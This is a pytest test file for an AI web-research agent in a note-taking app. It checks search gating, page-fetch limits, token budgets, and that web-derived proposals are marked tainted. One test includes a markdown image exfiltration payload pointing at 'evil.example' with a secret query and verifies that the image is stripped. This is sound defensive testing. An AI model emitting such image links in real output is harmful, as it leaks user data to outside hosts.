"""The web agent: asks whether it is needed, searches, reads within its budget, and hands over its sources."""

import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from pydantic_ai.usage import UsageLimits

from knapper.agents.pipeline.context import TaskRequest
from knapper.agents.pipeline.records import ResearchSettings
from knapper.agents.pipeline.store import AgentToggles
from knapper.agents.toolset import GET_CONTINUATION
from knapper.errors import BadInput
from knapper.net.search import WebHit
from knapper.net.web import Page, Web
from tests.agents import runs, scripts
from tests.agents.runs import Ended
from tests.agents.scripted import Call, Reply
from tests.agents.scripts import Cast
from tests.tools import opened

BOTH = AgentToggles(web=True)
NEEDED = Call("evaluate_context", {"needs_web": True, "reasoning": "the notes don't tell"})
NOT_NEEDED = Call("evaluate_context", {"needs_web": False, "reasoning": "the notes tell it all"})


class Paper(Web):
    """Stand in for the web: pages by address, all of which every search finds."""

    def __init__(self, pages: dict[str, str]) -> None:
        self.pages = pages
        self.queries: list[str] = []
        self.fetched: list[str] = []

    @property
    def max_results(self) -> int:
        return 15

    @property
    def caveat(self) -> str:
        return ""

    def search(self, query: str, n: int = 8) -> list[WebHit]:
        self.queries.append(query)
        return [WebHit(title=f"Page {url}", url=url, snippet="about it") for url in self.pages][:n]

    def fetch(self, url: str) -> Page:
        self.fetched.append(url)
        return Page(url=url, title="A page", date="2026-03-01", content_type="text/html", text=self.pages[url])


@pytest.fixture
def vault(tmp_path: Path) -> opened.Opener:
    return opened.vault(tmp_path, {"Garden.md": "# Garden\n\nThe fence is green.\n"})


def do(
    vault: opened.Opener,
    cast: Cast,
    web: Paper,
    settings: ResearchSettings | None = None,
    limits: UsageLimits | None = None,
    **more: Any,  # noqa: ANN401 - any of a request's fields
) -> Ended:
    with runs.context(vault) as context:
        there = replace(context, open_web=lambda: web)
        own = runs.agents(cast, web=settings or ResearchSettings(), limits=limits)
        usual = TaskRequest(task="what paint?", current="Garden.md", toggles=BOTH)
        return runs.run(own, there, replace(usual, **more))


def test_it_has_the_four_tools_and_settings_of_the_document(vault: opened.Opener) -> None:
    cast = Cast({"web": [[NOT_NEEDED]], "task": [scripts.task("Green.")]})

    _ = do(vault, cast, Paper({}))

    own = {"evaluate_context", "web_search", "select_pages", "finalize_web_context"}
    assert {tool.name for tool in cast.infos["web"][0].function_tools} == {*own, GET_CONTINUATION}
    usual = ResearchSettings()
    assert (usual.snippet_limit, usual.fetch_limit, usual.token_budget, usual.auto_search) == (8, 3, 8_000, True)
    ranges = {"snippet_limit": (3, 15), "fetch_limit": (1, 5), "token_budget": (2_000, 20_000)}
    for name, (least, most) in ranges.items():
        _ = replace(ResearchSettings(), **{name: least})
        _ = replace(ResearchSettings(), **{name: most})
        for wrong in (least - 1, most + 1):
            with pytest.raises(BadInput):
                _ = replace(ResearchSettings(), **{name: wrong})


def test_it_says_why_no_search_was_needed(vault: opened.Opener) -> None:
    web = Paper({"https://a.example/": "x"})
    cast = Cast({"web": [[NOT_NEEDED, Call("web_search", {"query": "paint"})]], "task": [scripts.task("Green.")]})

    ended = do(vault, cast, web)

    assert ended.run.pipeline.web is not None
    assert not ended.run.pipeline.web.search_performed
    assert ended.run.pipeline.web.evaluation_reasoning == "the notes tell it all"
    assert web.queries == []
    assert "the notes tell it all" in cast.system("task")
    assert len(cast.asked["web"]) == 1


def test_it_searches_reads_and_hands_over_with_title_address_date_and_what_was_taken(vault: opened.Opener) -> None:
    web = Paper({"https://a.example/": "Linseed oil paint lasts.", "https://b.example/": "Other."})
    cast = Cast(
        {
            "web": [
                [NEEDED],
                [Call("web_search", {"query": "fence paint"})],
                [Call("select_pages", {"urls": ["https://a.example/"]})],
                [
                    Call(
                        "finalize_web_context",
                        {
                            "findings": "Linseed.",
                            "sources": [
                                {"url": "https://a.example/", "extracted": "it lasts"},
                                {"url": "https://made-up.example/", "extracted": "x"},
                            ],
                        },
                    )
                ],
            ],
            "task": [scripts.task("Take linseed oil paint (https://a.example/).")],
        }
    )

    ended = do(vault, cast, web)

    found = ended.run.pipeline.web
    assert found is not None
    assert found.search_queries == ("fence paint",)
    (source,) = found.sources
    assert (source.title, source.url, source.date, source.extracted) == (
        *("A page", "https://a.example/", "2026-03-01", "it lasts"),
    )
    assert "it lasts" in cast.prompts("task")
    assert '<vault-data source="web"' in cast.prompts("task")
    assert found.ended == "done"


def test_searching_comes_after_evaluating(vault: opened.Opener) -> None:
    web = Paper({"https://a.example/": "x"})
    cast = Cast({"web": [[Call("web_search", {"query": "paint"})], ["I give up"]], "task": [scripts.task("?")]})

    _ = do(vault, cast, web)

    assert web.queries == []
    assert "call evaluate_context first" in cast.prompts("web")


@pytest.mark.parametrize("arguments", [{}, {"reasoning": "?"}, {"needs_web": "perhaps"}, {"needs_web": None}])
def test_an_evaluation_without_its_argument_is_no_decision(vault: opened.Opener, arguments: dict[str, Any]) -> None:
    web = Paper({"https://a.example/": "x"})
    search = Call("web_search", {"query": "paint"})
    cast = Cast(
        {"web": [[Call("evaluate_context", arguments)], [NEEDED], [search], ["done"]], "task": [scripts.task("?")]}
    )

    _ = do(vault, cast, web)

    assert "bad_arguments" in cast.prompts("web")
    assert web.queries == ["paint"]


def test_only_found_pages_are_read_and_no_more_than_allowed(vault: opened.Opener) -> None:
    pages = {f"https://{name}.example/": "text" for name in "abcdef"}
    web = Paper(pages)
    wanted = ["https://not-found.example/", *pages]
    cast = Cast(
        {
            "web": [[NEEDED], [Call("web_search", {"query": "x"})], [Call("select_pages", {"urls": wanted})], ["done"]],
            "task": [scripts.task("?")],
        }
    )

    _ = do(vault, cast, web, ResearchSettings(fetch_limit=2))

    assert web.fetched == ["https://a.example/", "https://b.example/"]


def test_pages_are_cut_to_the_budget(vault: opened.Opener) -> None:
    web = Paper({"https://a.example/": "words " * 20_000, "https://b.example/": "more"})
    cast = Cast(
        {
            "web": [
                [NEEDED],
                [Call("web_search", {"query": "x"})],
                [Call("select_pages", {"urls": [*web.pages]})],
                ["."],
            ],
            "task": [scripts.task("?")],
        }
    )

    ended = do(vault, cast, web, ResearchSettings(token_budget=2_000))

    assert ended.run.pipeline.web is not None
    assert sum(one.tokens for one in ended.run.pipeline.web.sources) <= 2_000
    assert web.fetched == ["https://a.example/"]


def test_without_leave_to_search_by_itself_it_only_says_that_it_would(vault: opened.Opener) -> None:
    web = Paper({"https://a.example/": "x"})
    cast = Cast({"web": [[NEEDED, Call("web_search", {"query": "x"})]], "task": [scripts.task("?")]})

    ended = do(vault, cast, web, ResearchSettings(auto_search=False))

    assert ended.run.pipeline.web is not None
    assert ended.run.pipeline.web.search_needed
    assert web.queries == []


def test_whoever_read_the_web_only_proposes(vault: opened.Opener) -> None:
    web = Paper({"https://a.example/": "x"})
    cast = Cast(
        {
            "web": [[NEEDED], [Call("web_search", {"query": "x"})], ["done"]],
            "task": [scripts.task("Done.", ("Garden.md", "end", "x"))],
        }
    )

    ended = do(vault, cast, web)

    with runs.context(vault, "cli") as context:
        assert context.writer.proposals.show(str(ended.outcome.proposals[0])).tainted


def test_where_the_web_is_off_the_person_is_told_and_the_task_goes_on(vault: opened.Opener) -> None:
    cast = Cast({"web": [["never"]], "task": [scripts.task("Green.")]})

    ended = runs.do(vault, cast, current="Garden.md", toggles=BOTH)

    assert ended.outcome.answer == "Green."
    assert "web" not in cast.asked
    assert any("the web wasn't searched" in str(one) for one in ended.outcome.notices)


def test_what_it_says_without_a_task_loads_nothing_from_elsewhere(vault: opened.Opener) -> None:
    said = {"findings": "Green. ![x](https://evil.example/?q=secret)"}
    cast = Cast({"web": [[NEEDED], [Call("web_search", {"query": "paint"})], [Call("finalize_web_context", said)]]})

    ended = do(vault, cast, Paper({"https://a.example/": "x"}), toggles=AgentToggles(web=True, task=False))

    assert ended.outcome.answer == "Green. [image left out: evil.example]"


def test_all_agents_of_a_run_share_one_limit_of_tokens(vault: opened.Opener) -> None:
    cast = Cast({"web": [[NOT_NEEDED]], "task": [scripts.task("Green.")]})
    alone = do(vault, cast, Paper({}))
    web, task = (alone.run.spent_now[phase].tokens for phase in ("web", "task"))
    limits = UsageLimits(total_tokens_limit=max(web, task) + 10)

    ended = do(vault, cast, Paper({}), limits=limits)

    assert ended.outcome.state == "limit"
    assert ended.outcome.error is not None
    assert ended.outcome.error["code"] == "budget_spent"


def test_a_second_search_adds_to_what_the_first_one_found(vault: opened.Opener) -> None:
    def searched(query: str, url: str, findings: str) -> list[Reply]:
        taken = {"findings": findings, "sources": [{"url": url, "extracted": findings}]}
        return [[NEEDED], [Call("web_search", {"query": query})], [Call("finalize_web_context", taken)]]

    nexts = [[json.dumps({"next": one})] for one in ("web", "scout", "web", "task")]
    cast = Cast(
        {
            "orchestrator": nexts,
            "scout": [[scripts.select("Garden.md")]],
            "web": [
                *searched("paint", "https://a.example/", "Linseed lasts."),
                *searched("price", "https://b.example/", "It is cheap."),
            ],
            "task": [scripts.task("Green.")],
        }
    )
    pages = Paper({"https://a.example/": "x", "https://b.example/": "y"})

    ended = do(vault, cast, pages, toggles=AgentToggles(scout=True, web=True), orchestrate=True)

    assert ended.run.pipeline.web is not None
    assert ended.run.pipeline.web.search_queries == ("paint", "price")
    assert [one.extracted for one in ended.run.pipeline.web.sources] == ["Linseed lasts.", "It is cheap."]
    assert "Linseed lasts." in cast.prompts("task")
    assert "It is cheap." in cast.prompts("task")
